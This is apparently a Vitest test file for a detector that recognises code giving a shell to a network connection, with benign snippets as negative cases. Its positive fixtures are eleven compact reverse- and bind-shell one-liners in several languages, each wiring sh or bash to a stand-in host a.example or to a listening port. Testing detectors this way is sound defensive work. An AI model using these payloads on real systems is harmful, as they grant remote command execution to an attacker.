import { expect, test } from 'vitest'
import { programLinesForTest } from './read-program-for-test.ts'

const over = /^execute \w+ \w+(?: read)? over (?:connection|listener)$/

const handed: readonly (readonly [string, string])[] = [
  [
    'python',
    `import socket,subprocess as p\ns=socket.create_connection(('a.example',9))\np.Popen('sh',stdin=s,stdout=s)`,
  ],
  [
    'python',
    `import socket,subprocess\ns=socket.socket()\ns.bind(('',9))\nc,_=s.accept()\nsubprocess.Popen(['bash'],stdin=c)`,
  ],
  ['python', `import socket,os\ns=socket.create_connection(('a.example',9))\nos.system(s.recv(99).decode())`],
  ['perl', `use IO::Socket;$c=new IO::Socket::INET("a.example:9");STDIN->fdopen($c,r);system$_ while<>;`],
  ['ruby', `f=TCPSocket.open("a.example",9).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)`],
  ['php', `$s=stream_socket_client("tcp://a.example:9");proc_open("sh",[$s,$s,$s],$p);$t=fsockopen("a");`],
  [
    'javascript',
    `const c=require('child_process').spawn('sh');const s=require('net').connect(9,'a.example');s.pipe(c.stdin)`,
  ],
  [
    'javascript',
    `require('net').connect(9,'a.example').on('data', d => require('child_process').exec(d.toString()))`,
  ],
  [
    'groovy',
    `s=new Socket("a.example",9);p=["sh"].execute();p.consumeProcessOutput(s.outputStream,s.outputStream)`,
  ],
  ['compiled', `c,_ := net.Dial("tcp","a.example:9"); k := exec.Command("/bin/sh"); k.Stdin = c; k.Run()`],
  ['compiled', `let s = TcpStream::connect("a.example:9"); Command::new("sh").stdin(s.try_clone()).spawn()`],
]

test.each(handed)('%s: a shell gets a connection: %s', (language, text) => {
  expect(programLinesForTest(language, text)).toContainEqual(expect.stringMatching(over))
})

const ordinary: readonly (readonly [string, string])[] = [
  ['python', `import socket\ns=socket.create_connection(('localhost',80))\ns.send(b'x')\nprint(s.recv(9))`],
  ['python', `import subprocess\nsubprocess.run(['sh','-c','ls'],stdin=subprocess.DEVNULL)`],
  [
    'javascript',
    `require('net').createServer(s => s.end('ok')).listen(9); require('child_process').spawn('ls')`,
  ],
  ['javascript', `const ws = new (require('ws'))('ws://localhost'); ws.on('message', m => console.log(m))`],
  ['compiled', `c := exec.Command("go", "version"); c.Stdout = os.Stdout; c.Run()`],
]

test.each(ordinary)('%s: nobody gets a shell: %s', (language, text) => {
  expect(programLinesForTest(language, text).filter(line => over.test(line))).toEqual([])
})
